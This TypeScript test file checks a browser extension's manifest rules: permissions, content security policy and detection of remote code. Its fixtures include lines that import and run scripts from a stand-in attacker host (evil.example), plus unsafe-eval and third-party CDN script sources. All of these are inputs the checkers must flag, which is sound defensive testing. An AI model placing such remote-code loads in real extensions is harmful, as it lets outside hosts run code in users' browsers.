// The manifest rules must be able to fail: check them on manifests a bad build would produce.
import { describe, expect, it } from 'vitest';
import { cspProblems, permissionProblems, remoteCodeProblems } from './manifest-checks';

const base = { manifest_version: 3 };

describe('manifest rules', () => {
  it('accept storage only, and reject anything unjustified or site-wide', () => {
    expect(permissionProblems({ ...base, permissions: ['storage'] })).toEqual([]);
    expect(
      permissionProblems({
        ...base,
        permissions: ['storage', 'tabs'],
        host_permissions: ['https://*.facebook.com/*'],
        content_scripts: [{ matches: ['<all_urls>'] }],
      }),
    ).toEqual([
      'unjustified permission: tabs',
      'host permission: https://*.facebook.com/*',
      'content script runs on every site: <all_urls>',
    ]);
  });

  it('accept host access that is only optional, but not required host access (MV2 or MV3)', () => {
    const optionalOnly = {
      ...base,
      permissions: ['storage'],
      optional_host_permissions: ['https://*/*'],
    };
    expect(permissionProblems(optionalOnly)).toEqual([]);
    expect(
      permissionProblems({ ...base, optional_permissions: ['https://*/*', 'scripting'] }),
    ).toEqual([]);
    expect(permissionProblems({ ...base, permissions: ['storage', 'https://*/*'] })).toEqual([
      'host permission: https://*/*',
    ]);
    expect(permissionProblems({ ...base, optional_permissions: ['history'] })).toEqual([
      'unjustified permission: history',
    ]);
  });

  it.each([
    ["script-src 'self'; object-src 'self'", []],
    ["script-src 'self'; object-src 'none'", []],
    [undefined, ['no content_security_policy for extension pages']],
    ["script-src 'self' 'unsafe-eval'; object-src 'self'", ["script-src allows 'unsafe-eval'"]],
    [
      "script-src 'self' https://cdn.example.com; object-src 'self'",
      ['script-src allows https://cdn.example.com'],
    ],
    ["script-src 'self'", ['object-src missing']],
  ] as const)('CSP %j → %j', (policy, problems) => {
    const manifest =
      policy === undefined
        ? base
        : { ...base, content_security_policy: { extension_pages: policy } };
    expect(cspProblems(manifest)).toEqual(problems);
    if (policy !== undefined)
      expect(cspProblems({ ...base, content_security_policy: policy })).toEqual(problems);
  });

  it('finds remote scripts in pages and remote imports in code, and nothing in local ones', () => {
    expect(
      remoteCodeProblems('popup.html', '<script type="module" src="/chunks/popup.js"></script>'),
    ).toEqual([]);
    expect(
      remoteCodeProblems('popup.html', '<script src="https://cdn.example.com/x.js"></script>'),
    ).toHaveLength(1);
    expect(
      remoteCodeProblems('popup.html', '<link rel="stylesheet" href="//cdn.example.com/x.css">'),
    ).toHaveLength(1);
    expect(
      remoteCodeProblems('background.js', 'await import("https://evil.example/x.js")'),
    ).toHaveLength(1);
    expect(
      remoteCodeProblems('background.js', 'importScripts("//evil.example/x.js")'),
    ).toHaveLength(1);
    expect(
      remoteCodeProblems('background.js', 'const u="https://example.com";import("./chunk.js")'),
    ).toEqual([]);
  });
});
